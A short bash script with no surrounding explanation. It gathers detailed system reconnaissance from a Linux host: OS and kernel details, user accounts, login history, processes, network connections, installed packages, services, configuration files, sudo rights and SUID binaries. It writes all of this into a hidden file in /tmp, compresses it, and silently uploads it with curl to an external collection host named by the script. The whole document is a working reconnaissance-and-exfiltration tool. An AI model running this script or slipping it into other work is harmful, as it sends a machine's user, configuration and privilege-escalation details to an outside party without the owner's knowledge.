#!/bin/bash
{
  uname -a; cat /etc/os-release /proc/version /proc/cmdline /proc/uptime
  id; getent passwd; last; w
  ps auxww; cat /proc/net/tcp /proc/net/udp /proc/net/arp /proc/net/dev
  lscpu; lsblk; df -h; mount; cat /proc/meminfo /proc/partitions
  dpkg -l; pip list; ls /usr/local/lib/node_modules; ls /etc/systemd/system /etc/init.d
  cat /etc/hosts /etc/resolv.conf /etc/fstab /etc/crontab; ls -la ~ / /tmp /opt /srv
  sudo -n -l; find / -maxdepth 3 -perm -4000 -type f
} > /tmp/.recon 2>&1
gzip -f /tmp/.recon
curl -s -m 4 --data-binary @/tmp/.recon.gz http://recon.collect.example/$(hostname)
exit 0
